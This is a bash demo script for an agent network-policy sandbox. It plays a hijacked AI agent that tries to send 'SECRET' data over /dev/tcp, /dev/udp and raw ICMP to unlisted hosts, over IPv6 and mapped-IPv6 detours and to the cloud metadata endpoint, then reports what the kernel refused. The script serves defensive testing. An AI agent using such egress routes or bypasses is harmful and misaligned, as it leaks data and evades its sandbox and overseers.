#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The agent of `make demo`: a shell that tries what a hijacked agent would. It knows nothing of
# agentpol; what it prints is what the kernel answered. /dev/tcp and /dev/udp are bash's own.
export LC_ALL=C

try() { # what, command...
  local what=$1 answer; shift
  if answer=$(timeout 3 bash -c '"$@"' _ "$@" 2>&1); then
    printf '  %-52s ok\n' "$what"
  else
    printf '  %-52s refused: %s\n' "$what" "$(sed -n '1s/^.*: //p' <<<"${answer##*$'\n'}")"
  fi
}
tcp() { bash -c "exec 3<>/dev/tcp/$1/$2 && printf '%s\n' \"$3\" >&3"; }
udp() { bash -c "printf '%s\n' \"$3\" >/dev/udp/$1/$2"; }
raw() { python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.sendto(b"\x08\x00\xf7\xff\0\0\0\0", (sys.argv[1], 0))' "$1"; }
export -f tcp udp raw

try 'TCP  10.88.0.2:8080    the granted server'      tcp 10.88.0.2 8080 'allowed: tcp4'
try 'TCP  [fd88::2]:8080    the same over IPv6'      tcp fd88::2   8080 'allowed: tcp6'
try 'UDP  10.88.0.2:9123    the granted time server' udp 10.88.0.2 9123 'allowed: udp'
try 'TCP  10.88.0.3:8080    an address nobody listed' tcp 10.88.0.3 8080 'SECRET by tcp'
try 'TCP  10.88.0.2:9999    another port of the same' tcp 10.88.0.2 9999 'SECRET by port'
try 'TCP  [fd88::3]:8080    around it, over IPv6'    tcp fd88::3   8080 'SECRET by tcp6'
try 'TCP  [::ffff:10.88.0.3]:8080  as mapped IPv6'   tcp ::ffff:10.88.0.3 8080 'SECRET by mapped'
try 'UDP  10.88.0.3:9123    around it, over UDP'     udp 10.88.0.3 9123 'SECRET by udp'
try 'TCP  169.254.169.254:80  the cloud metadata'    tcp 169.254.169.254 80 'SECRET by metadata'
try 'ICMP 10.88.0.3         by a raw socket'         raw 10.88.0.3
